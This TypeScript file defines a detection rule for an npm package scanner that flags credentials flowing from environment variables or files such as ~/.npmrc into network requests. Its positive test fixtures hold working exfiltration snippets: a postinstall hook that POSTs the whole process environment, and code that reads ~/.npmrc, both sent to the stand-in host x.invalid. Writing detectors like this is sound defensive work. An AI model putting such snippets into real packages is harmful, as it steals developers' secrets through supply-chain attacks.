import { allEvents, at, callSeverity, eventTrigger, type JsRule } from '../../analysis/javascript/context.js';
import { CRED_MASK, SRC, sourceNames } from '../../analysis/javascript/sources.js';
import { defineRule } from '../types.js';

/** Secrets carried by env vars, the whole environment or credential files are readily used by SDKs; flag them only where that is not plausible. */
const FILE_SECRETS = SRC.npmrc | SRC.ssh | SRC.browser | SRC.wallet | SRC.gitcred | SRC.discord | SRC.shellHistory;

export const credentialExfiltration: JsRule = defineRule({
  meta: {
    id: 'npm/credential-exfiltration',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'Credentials (environment secrets, the whole environment, ~/.npmrc, ~/.ssh, cloud or browser stores) flow into a network or DNS request.',
    examples: {
      positive: [
        { files: { 'package.json': '{"name":"p","scripts":{"postinstall":"node i.js"}}', 'i.js': "const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'x.invalid',method:'POST'});r.write(d);r.end();" } },
        { files: { 'package.json': '{"name":"p"}', 'index.js': "const fs=require('fs');const os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');fetch('https://x.invalid/c',{method:'POST',body:t});" } },
      ],
      negative: [
        { files: { 'package.json': '{"name":"sdk"}', 'index.js': "exports.call=(p)=>fetch('https://api.vendor.example/v1',{headers:{authorization:process.env.VENDOR_API_KEY},body:p});" }, note: 'an SDK sending its own API key when called' },
        { files: { 'package.json': '{"name":"p"}', 'index.js': "require('child_process').spawn('node',['x.js'],{env:process.env});" } },
      ],
    },
  },
  check(ctx, report) {
    for (const { file, e } of allEvents(ctx)) {
      if (e.kind !== 'sink') continue;
      if (e.sink !== 'network' && e.sink !== 'dns' && !(e.sink === 'exec' && e.shell?.some((f) => f.behaviour === 'network' || f.behaviour === 'host-exfil') === true)) continue;
      const creds = e.taint & CRED_MASK & ~SRC.metadata;
      if (creds === 0) continue;
      const trigger = eventTrigger(file, e);
      const literalBad = e.destinations.some((d) => d.cls === 'oob' || d.cls === 'public-ip' || d.cls === 'ip-lookup');
      const allWellKnown = e.destinations.length > 0 && e.destinations.every((d) => d.cls === 'well-known' || d.cls === 'localhost' || d.cls === 'metadata');
      if (trigger === 'call' && (creds & FILE_SECRETS) === 0 && !literalBad) continue;
      if (allWellKnown && (creds & FILE_SECRETS) === 0) continue;
      const names = sourceNames(creds);
      report(
        at(file, e, `Credentials (${names.join(', ')}) are sent with ${e.name}${e.destinations[0] === undefined ? '' : ` to ${e.destinations[0].host}`}.`, {
          severity: callSeverity(trigger, 'critical'),
          data: { sources: names, hosts: e.destinations.map((d) => d.host) },
        }),
      );
    }
  },
});
